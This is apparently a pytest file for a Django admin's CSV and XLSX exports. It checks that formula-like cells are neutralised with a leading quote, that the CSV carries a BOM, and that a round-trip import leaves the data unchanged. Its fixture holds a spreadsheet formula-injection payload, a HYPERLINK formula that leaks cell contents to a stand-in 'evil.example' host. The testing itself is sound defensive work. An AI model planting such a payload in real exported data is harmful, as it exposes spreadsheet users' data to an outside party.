"""Admin CSV/XLSX exports (django-import-export): a text cell never runs as a formula in a
spreadsheet, the CSV has a BOM, and an exported file imports back unchanged."""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from challenges.models import Challenge
from tests.factories import ChallengeFactory
from tests.promotions.test_admin import _export

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'


@pytest.fixture
def coord_client(client, coordinator):
    client.force_login(coordinator)
    return client


@pytest.fixture
def evil_challenge():
    return ChallengeFactory(title=EVIL, slug="defi-piege", summary="@SUM(1+1)")


def test_xlsx_export_writes_formulas_as_text(coord_client, evil_challenge):
    response = _export(coord_client, Challenge, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = next(
        r
        for r in sheet.iter_rows(min_row=2)
        if r[header.index("Identifiant d'URL")].value == "defi-piege"
    )
    title = row[header.index("Titre")]
    assert title.data_type == "s" and title.value == "'" + EVIL
    assert row[header.index("Résumé")].value == "'@SUM(1+1)"


def test_csv_export_has_a_bom_and_neutralised_cells(coord_client, evil_challenge):
    response = _export(coord_client, Challenge, "csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text


def test_exported_file_imports_back_without_change(coord_client, evil_challenge):
    exported = _export(coord_client, Challenge, "csv").content
    url = reverse("admin:challenges_challenge_import")
    upload = SimpleUploadedFile("defis.csv", exported, content_type="text/csv")
    response = coord_client.post(url, {"import_file": upload, "format": "0", "resource": "0"})
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    # The défi's row is « unchanged »: the leading ' is taken off again on import.
    row = next(r for r in result.rows if r.object_id == evil_challenge.pk)
    assert row.import_type == "skip"
    # Confirm the import: nothing changes.
    form = response.context["confirm_form"]
    coord_client.post(
        reverse("admin:challenges_challenge_process_import"),
        {k: v for k, v in form.initial.items()},
    )
    evil_challenge.refresh_from_db()
    assert evil_challenge.title == EVIL and evil_challenge.summary == "@SUM(1+1)"
